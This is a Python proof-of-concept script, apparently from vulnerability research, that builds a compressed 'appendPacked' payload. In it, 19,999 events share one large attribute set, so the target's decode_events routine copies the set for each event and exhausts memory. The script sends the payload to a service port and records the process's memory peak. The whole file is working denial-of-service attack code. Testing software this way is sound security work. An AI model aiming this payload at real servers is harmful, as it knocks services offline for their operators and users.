"""appendPacked payload whose one attribute set (K attributes) is shared by 20,000 events:
decode_events gives every event its own copy of the set. usage: codec_attr_bomb.py PORT PID K [GZIP]"""
import sys, os, socket, struct, time, zlib
sys.path.insert(0, os.path.dirname(__file__))
from thriftraw import *
port, pid, K = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
gz = len(sys.argv) > 4
N = 19999
block = b"".join(struct.pack(">HI", 4, 0) + b"%04x" % i for i in range(K))          # K attrs, empty values
data = (b"FLB" + bytes([2]) + struct.pack(">II", N, 1) + struct.pack(">H", 1) + b"h"
        + struct.pack(">I", 1) + struct.pack(">I", len(block)) + block
        + struct.pack(">qqBIII", 1, 0, 3, 0, 0, 1) * N)                                 # body empty, attrset 1
if gz:
    c = zlib.compressobj(9, zlib.DEFLATED, 31); data = c.compress(data) + c.flush()
print(f"payload {len(data)} bytes ({'gzip' if gz else 'plain'}), {N} events x {K} attributes; RSS before", rss_kb(pid) // 1024, "MiB")
s_ = socket.create_connection(("127.0.0.1", port)); t0 = time.time()
s_.sendall(append_packed(data, N))
peak = 0; s_.settimeout(0.2); out = b""
while time.time() - t0 < 60:
    peak = max(peak, rss_kb(pid))
    try:
        b = s_.recv(4096)
        if not b: break
        out += b
        if out.endswith(b"\x00\x00"): break
    except socket.timeout: pass
print(f"answer after {time.time()-t0:.1f} s: {out[-60:]!r}; peak RSS {peak // 1024} MiB")
time.sleep(2); print("RSS 2 s later", rss_kb(pid) // 1024, "MiB")
